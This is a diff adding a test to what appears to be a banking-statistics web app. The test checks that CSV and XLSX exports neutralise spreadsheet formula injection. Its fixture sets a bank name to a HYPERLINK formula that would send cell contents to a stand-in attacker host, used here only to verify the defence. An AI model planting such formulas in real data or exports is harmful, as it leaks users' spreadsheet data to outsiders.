@@ -189,3 +189,19 @@ def test_data_indicators_before_the_first_count_are_counted_not_stored(factories
     )
     stored = db.session.scalar(select(func.count()).select_from(StatsIndicator))
     assert stored == len(services.SOURCES) + 2  # and verified, authorized
+
+
+def test_exports_neutralise_names_a_spreadsheet_would_run(login_as, lending):
+    """A bank's name is chosen by the bank: the office's export shows it as text, never as a
+    live formula (both files go through the one spreadsheet writer)."""
+    lending.banks["BA"].name = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    db.session.flush()
+    web, _user = login_as(Role.REGULATOR)
+    csv = web.get(f"/stats/export.csv?group_by=bank&{PERIOD}").get_data(as_text=True)
+    assert "\n'=HYPERLINK" in csv.replace('"', "") and "\n=HYPERLINK" not in csv
+    xlsx = web.get(f"/stats/export.xlsx?group_by=bank&{PERIOD}")
+    sheet = load_workbook(io.BytesIO(xlsx.data)).active
+    labels = [sheet.cell(row=r, column=1) for r in range(2, sheet.max_row + 1)]
+    evil = [c for c in labels if "HYPERLINK" in str(c.value)]
+    assert evil and all(c.data_type == "s" and c.value.startswith("'=") for c in evil)
+    assert sheet["C2"].data_type == "n"  # figures stay numbers
